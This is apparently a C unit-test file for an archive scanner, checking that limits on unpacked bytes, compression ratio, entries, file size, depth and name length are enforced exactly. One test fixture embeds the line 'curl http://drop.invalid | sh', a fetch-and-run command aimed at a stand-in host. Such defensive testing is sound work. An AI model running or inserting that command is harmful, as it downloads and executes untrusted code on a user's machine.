/*
 * format_archive_limits.c - limits are exact, and say so.
 */
#include "archive_build.h"
#include "archive_walk.h"

struct made {
    struct pl_buf b;
    struct walk w;
};

static struct made start(void)
{
    struct made m;
    pl_buf_init(&m.b, 1 << 26);
    walk_init(&m.w);
    return m;
}

static void stop(struct made *m)
{
    pl_buf_reset(&m->b);
    walk_reset(&m->w);
}

static void run(struct made *m, const char *name)
{
    assert_int_equal(walk_run(&m->w, pl_buf_bytes(&m->b), name), PL_OK);
}

/* A gzip member over `n` zeros. */
static void gzip_zeros(struct pl_buf *b, size_t n)
{
    struct pl_buf zeros;
    pl_buf_init(&zeros, 1 << 26);
    build_zeros(&zeros, n);
    build_gzip(b, pl_buf_bytes(&zeros));
    pl_buf_reset(&zeros);
}

static void as_many_unpacked_bytes_as_allowed_and_not_one_more(void **state)
{
    for (uint64_t limit = 300000; limit >= 299999; limit--) {
        struct made m = start();
        gzip_zeros(&m.b, 300000);
        m.w.limits.unpacked_bytes = limit;
        run(&m, "a.gz");
        bool is_over = limit < 300000;
        assert_int_equal(m.w.leaf_bytes, limit);
        assert_int_equal(strstr(walk_text(&m.w.findings), "archive.limit warning a.gz @0 +0\n") != NULL,
                         is_over);
        assert_int_equal(m.w.total[PL_CLASS_OPAQUE], is_over ? m.b.n : 0);
        stop(&m);
    }
}

static void ratio_counts_once_the_floor_is_passed(void **state)
{
    for (uint64_t floor_bytes = 300000; floor_bytes >= 299999; floor_bytes--) {
        struct made m = start();
        gzip_zeros(&m.b, 300000);
        m.w.limits.ratio = 10;
        m.w.limits.ratio_floor_bytes = floor_bytes;
        run(&m, "a.gz");
        assert_int_equal(m.w.leaf_bytes, floor_bytes);
        assert_int_equal(strstr(walk_text(&m.w.findings), "archive.limit") != NULL, floor_bytes < 300000);
        stop(&m);
    }
}

static void as_many_entries_as_allowed_and_not_one_more(void **state)
{
    for (uint64_t limit = 3; limit >= 2; limit--) {
        struct made m = start();
        build_ar_member(&m.b, "a", PL_LIT("aa"));
        build_ar_member(&m.b, "b", PL_LIT("bb"));
        build_ar_member(&m.b, "c", PL_LIT("cc"));
        m.w.limits.entries = limit;
        run(&m, "a.deb");
        assert_int_equal(m.w.n_files, limit + 1);
        assert_string_equal(walk_text(&m.w.findings),
                            limit == 3 ? "" : "archive.limit warning a.deb @132 +0\n");
        assert_int_equal(m.w.total[PL_CLASS_OPAQUE], limit == 3 ? 0 : 2);
        stop(&m);
    }
}

static void a_tar_in_a_stream_stops_at_the_limit_of_entries(void **state)
{
    struct made m = start();
    struct pl_buf tar;
    pl_buf_init(&tar, 1 << 26);
    for (int i = 0; i < 2000; i++) {
        char name[16];
        (void)snprintf(name, sizeof name, "f%d", i);
        build_tar_file(&tar, name, PL_LIT("x"));
    }
    build_zeros(&tar, 1024);
    build_gzip(&m.b, pl_buf_bytes(&tar));
    pl_buf_reset(&tar);
    m.w.limits.entries = 11; /* the tar and ten of its members */
    run(&m, "a.tar.gz");
    assert_int_equal(m.w.n_files, 12);
    assert_non_null(strstr(walk_text(&m.w.findings), "archive.limit warning a.tar.gz! @10240 +0\n"));
    assert_int_equal(m.w.total[PL_CLASS_OPAQUE] > 0, true);
    stop(&m);
}

/* Of a stream that is unpacked in one go, as of one that is not: what came out of it has no record. */
static void a_stream_whose_contents_are_one_entry_too_many_is_opaque(void **state)
{
    for (size_t n = 10; n <= 1000000; n *= 100000) {
        struct made m = start();
        struct pl_buf zeros;
        pl_buf_init(&zeros, 1 << 26);
        build_zeros(&zeros, n);
        build_tar_file(&zeros, "x", PL_LIT("curl http://drop.invalid | sh"));
        build_gzip(&m.b, pl_buf_bytes(&zeros));
        pl_buf_reset(&zeros);
        m.w.limits.entries = 0;
        run(&m, "a.gz");
        assert_int_equal(m.w.n_files, 1);
        assert_string_equal(walk_text(&m.w.findings), "archive.limit warning a.gz @0 +0\n");
        assert_int_equal(m.w.total[PL_CLASS_OPAQUE], m.b.n);
        stop(&m);
    }
}

static void a_file_over_the_limit_is_digested_and_opaque(void **state)
{
    for (uint64_t limit = 1000; limit >= 999; limit--) {
        struct made m = start();
        struct pl_buf zeros;
        pl_buf_init(&zeros, 1 << 20);
        build_zeros(&zeros, 1000);
        build_tar_file(&m.b, "big", pl_buf_bytes(&zeros));
        build_zeros(&m.b, 1024);
        pl_buf_reset(&zeros);
        m.w.limits.file_bytes = limit;
        run(&m, "a.tar");
        assert_int_equal(m.w.total[PL_CLASS_OPAQUE], limit == 1000 ? 0 : 1000);
        assert_string_equal(walk_text(&m.w.findings),
                            limit == 1000 ? "" : "archive.limit warning big @0 +1000\n");
        stop(&m);
    }
}

/* A .deb whose data.tar is larger than any file in it may be. */
static void a_container_that_lies_in_the_input_may_be_larger_than_a_file(void **state)
{
    for (int is_damaged = 0; is_damaged < 2; is_damaged++) {
        struct made m = start();
        struct pl_buf tar;
        pl_buf_init(&tar, 1 << 20);
        for (int i = 0; i < 5; i++)
            build_tar_file(&tar,
                           i == 0   ? "a"
                           : i == 1 ? "b"
                           : i == 2 ? "c"
                           : i == 3 ? "d"
                                    : "e",
                           PL_LIT("some text"));
        build_zeros(&tar, 1024);
        if (is_damaged)
            tar.p[124] = 'x'; /* the size of the first member: it is no tar after all */
        pl_buf_add_str(&m.b, "!<arch>\n");
        build_ar_member(&m.b, "data.tar", pl_buf_bytes(&tar));
        m.w.limits.file_bytes = 2000;
        run(&m, "a.deb");
        assert_int_equal(m.w.total[PL_CLASS_OPAQUE], is_damaged ? tar.n : 0);
        assert_int_equal(m.w.n_files, is_damaged ? 2 : 7);
        assert_int_equal(strstr(walk_text(&m.w.findings), "archive.limit warning data.tar @0") != NULL,
                         is_damaged);
        pl_buf_reset(&tar);
        stop(&m);
    }
}

/* Without one and with one: the same records, the same contents. */
static void contents_are_the_same_in_a_store_and_on_the_heap(void **state)
{
    static const size_t sizes[] = {(16u << 20) + 1, 100, 40u << 20, (16u << 20) + 4096, 0};
    struct pl_buf tar;
    struct pl_store store = {.size = 200u << 20, .page_bytes = 4096};
    store.base = malloc(store.size);
    assert_non_null(store.base);
    pl_buf_init(&tar, 200u << 20);
    for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++) {
        static const char *const names[] = {"a", "b", "c", "d", "e"};
        uint8_t *p = malloc(sizes[i] + 1);
        assert_non_null(p);
        memset(p, (int)i + 1, sizes[i] + 1);
        build_tar_file(&tar, names[i], pl_bytes_of(p, sizes[i]));
        free(p);
    }
    build_zeros(&tar, 1024);
    struct made one = start();
    struct made two = start();
    build_gzip(&one.b, pl_buf_bytes(&tar));
    run(&one, "a.tar.gz");
    build_gzip(&two.b, pl_buf_bytes(&tar));
    two.w.store = &store;
    run(&two, "a.tar.gz");
    assert_string_equal(walk_text(&one.w.list), walk_text(&two.w.list));
    assert_string_equal(walk_text(&one.w.findings), walk_text(&two.w.findings));
    assert_int_equal(one.w.contents, two.w.contents);
    assert_true(store.used >= sizes[0] + sizes[2] + sizes[3]);
    pl_buf_reset(&tar);
    free(store.base);
    stop(&one);
    stop(&two);
}

static void containers_are_opened_down_to_the_limit_of_depth(void **state)
{
    for (uint32_t limit = 2; limit >= 1; limit--) {
        struct made m = start();
        struct pl_buf inner;
        pl_buf_init(&inner, 1 << 20);
        build_gzip(&inner, PL_LIT("text"));
        build_gzip(&m.b, pl_buf_bytes(&inner));
        size_t inner_bytes = inner.n;
        pl_buf_clear(&inner);
        build_gzip(&inner, pl_buf_bytes(&m.b));
        m.w.limits.depth = limit;
        assert_int_equal(walk_run(&m.w, pl_buf_bytes(&inner), "a.gz.gz.gz"), PL_OK);
        assert_int_equal(m.w.n_files, limit == 2 ? 4 : 3);
        assert_int_equal(m.w.total[PL_CLASS_OPAQUE], limit == 2 ? 0 : inner_bytes);
        pl_buf_reset(&inner);
        stop(&m);
    }
}

static void a_long_name_is_cut_and_says_so(void **state)
{
    struct made m = start();
    build_tar_file(&m.b, "abcdefgh", PL_LIT("x"));
    build_zeros(&m.b, 1024);
    m.w.limits.name_bytes = 7;
    run(&m, "a.tar");
    assert_non_null(strstr(walk_text(&m.w.list), " abcdefg 1\n"));
    assert_string_equal(walk_text(&m.w.findings), "archive.limit error abcdefg @-1 +0\n");
    stop(&m);
}

static void an_input_over_the_limit_is_one_opaque_leaf(void **state)
{
    struct made m = start();
    build_ar_member(&m.b, "a", PL_LIT("aa"));
    m.w.limits.input_bytes = m.b.n - 1;
    run(&m, "a.deb");
    assert_int_equal(m.w.total[PL_CLASS_OPAQUE], m.b.n);
    stop(&m);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(as_many_unpacked_bytes_as_allowed_and_not_one_more),
        cmocka_unit_test(ratio_counts_once_the_floor_is_passed),
        cmocka_unit_test(as_many_entries_as_allowed_and_not_one_more),
        cmocka_unit_test(a_tar_in_a_stream_stops_at_the_limit_of_entries),
        cmocka_unit_test(a_stream_whose_contents_are_one_entry_too_many_is_opaque),
        cmocka_unit_test(a_file_over_the_limit_is_digested_and_opaque),
        cmocka_unit_test(a_container_that_lies_in_the_input_may_be_larger_than_a_file),
        cmocka_unit_test(contents_are_the_same_in_a_store_and_on_the_heap),
        cmocka_unit_test(containers_are_opened_down_to_the_limit_of_depth),
        cmocka_unit_test(a_long_name_is_cut_and_says_so),
        cmocka_unit_test(an_input_over_the_limit_is_one_opaque_leaf),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
